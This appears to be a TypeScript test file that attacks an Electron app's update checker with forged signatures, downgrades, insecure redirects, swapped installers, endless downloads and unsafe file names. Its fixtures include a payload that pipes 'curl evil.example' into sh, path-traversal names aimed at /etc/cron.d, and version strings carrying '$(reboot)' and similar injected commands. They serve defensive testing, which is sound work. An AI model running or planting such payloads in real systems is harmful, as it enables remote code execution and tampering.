import { existsSync } from 'node:fs';
import { readFile, stat } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, beforeEach } from 'vitest';
import { ProtectedDownloads, parseDescription } from '../../electron/adapters/updates/protected-downloads.ts';
import { FeedReader } from '../../electron/services/updates/feed-reader.ts';
import { type InstallerFile, compareVersions } from '../../electron/services/updates/release.ts';
import { createCertificateAuthority } from '../support/certificate-authority.ts';
import { temporaryFolder } from '../support/temporary-folder.ts';
import { createMaker, describeVersion, redirectTo, sha512Of, UpdateFeed } from '../support/update-feed.ts';
import { attackGroup, type Through } from './attack-group.ts';

let feed: UpdateFeed;
let files: ProtectedDownloads;
let place: string;
const evil = '#!/bin/sh\ncurl evil.example | sh\n';
const running = '1.4.0';

beforeAll(async () => {
  feed = await UpdateFeed.start();
  files = new ProtectedDownloads({
    routes: { routesTo: () => Promise.resolve([{ kind: 'direct' }]) },
    credentials: {
      accountAt: () => Promise.resolve(null),
      wanted: () => Promise.resolve(),
      passed: () => undefined,
    },
    certificateAuthorities: [feed.authority.certificate],
  });
});
beforeEach(() => {
  feed.forget();
  place = path.join(temporaryFolder(), 'fetched');
});
afterAll(() => feed.close());

/** The installer that a check for updates leads to; `null` where there is none. */
async function offered(source = feed.source): Promise<InstallerFile | null> {
  const target = { platform: 'linux', arch: 'x64', systemVersion: '6.1.0', version: running } as const;
  const reader = new FeedReader({ source, files, parse: parseDescription, target, installedBy: 'program' });
  const found = await reader.latest(new AbortController().signal);
  return found.ok && found.value.kind === 'newer' ? found.value.release.file : null;
}

async function looksAt(source = feed.source): Promise<Through> {
  const file = await offered(source);
  return file === null ? null : `${file.name} was offered`;
}

/** Checks for updates, fetches what is offered, and returns what is on the disk then. */
async function fetches(): Promise<Through> {
  const file = await offered();
  if (file === null) return 'Nothing was offered that could have been fetched.';
  await files.download(file, place, new AbortController().signal, () => undefined);
  return existsSync(place) ? (await readFile(place, 'utf8')).slice(0, 40) : null;
}

const text = describeVersion({ version: '9.0.0', name: 'CO.AppImage', installer: evil });

attackGroup('forged updates', (attack) => {
  attack('a description without a signature', () => {
    feed.answers.set('/desk/latest-linux.yml', text);
    return looksAt();
  });

  attack('a description with the signature of another key', () => {
    feed.publish(text, { signature: createMaker().sign(text) });
    return looksAt();
  });

  attack('a description with the signature of an earlier one', () => {
    feed.publish(text, { signature: feed.maker.sign(describeVersion({ version: '1.4.1' })) });
    return looksAt();
  });

  attack('a signed description of an older version', () => {
    feed.publish(describeVersion({ version: '1.3.0', name: 'CO.AppImage', installer: evil }));
    return looksAt();
  });

  attack('a signed description for another system under the name of this one', () => {
    feed.publish(describeVersion({ version: '9.0.0', name: 'CO Desk Setup.exe', installer: evil }));
    return looksAt();
  });

  attack('a feed whose certificate nobody vouches for', async () => {
    feed.publish(text);
    const stranger = new UpdateFeed();
    Object.assign(stranger, { authority: createCertificateAuthority() });
    const server = await stranger.addServer();
    stranger.publish(text, { signature: feed.maker.sign(text) });
    const through = await looksAt({ ...feed.source, feed: new URL(`${server.address}/desk/`) });
    await stranger.close();
    return through;
  });

  for (const name of ['latest-linux.yml', 'latest-linux.yml.sig'])
    attack(`a redirect of ${name} to an address without protection`, async () => {
      const open = await feed.addServer({ isProtected: false });
      feed.publish(text);
      feed.answers.set(`/desk/${name}`, redirectTo(`${open.address}/desk/${name}`));
      return (await looksAt()) ?? (open.connections.length === 0 ? null : 'The address was asked.');
    });

  attack('a redirect of the installer to an address without protection', async () => {
    const open = await feed.addServer({ isProtected: false });
    feed.publish(text);
    feed.answers.set('/desk/CO.AppImage', redirectTo(`${open.address}/CO.AppImage`));
    feed.answers.set('/CO.AppImage', evil);
    return (await fetches()) ?? (open.connections.length === 0 ? null : 'The address was asked.');
  });

  attack('an installer that was exchanged', () => {
    feed.publish(
      describeVersion({ version: '9.0.0', name: 'CO.AppImage', installer: evil.replace('curl', 'true') }),
    );
    feed.answers.set('/desk/CO.AppImage', evil);
    return fetches();
  });

  attack('an installer without end', async () => {
    feed.publish(
      describeVersion({ version: '9.0.0', name: 'CO.AppImage', sha512: sha512Of(evil), size: 1_000 }),
    );
    let sent = 0;
    feed.answers.set('/desk/CO.AppImage', ({ socket }) => {
      socket.write('HTTP/1.1 200 OK\r\n\r\n');
      const more = (): void => {
        sent += 1;
        if (!socket.destroyed && sent < 2_000) socket.write(Buffer.alloc(64_000), () => setImmediate(more));
      };
      more();
    });
    return (await fetches()) ?? (sent < 1_000 ? null : `${sent} pieces were taken`);
  });

  for (const name of [
    '../../../etc/cron.d/CO.AppImage',
    '..%2F..%2Fetc%2Fcron.d%2FCO.AppImage',
    'a%00b.AppImage',
  ])
    attack(`an installer called ${name}`, async () => {
      feed.publish(describeVersion({ version: '9.0.0', name, installer: evil }));
      const file = await offered();
      return file === null || /^[\w .()+-]+$/.test(file.name) ? null : file.name;
    });

  attack('a version that is a command', () => {
    const versions = ['1.5.0; reboot', '$(reboot)', '1.5.0\n9.9.9', '../../9.0.0', '--force-run'];
    return versions.find((version) => compareVersions(version, running) === 'newer') ?? null;
  });

  attack('a fetched file that others may change', async () => {
    feed.publish(text);
    feed.answers.set('/desk/CO.AppImage', evil);
    if ((await fetches()) === null) return 'Nothing was fetched.';
    const { mode } = await stat(place);
    return (mode & 0o077) === 0 ? null : mode.toString(8);
  });
});
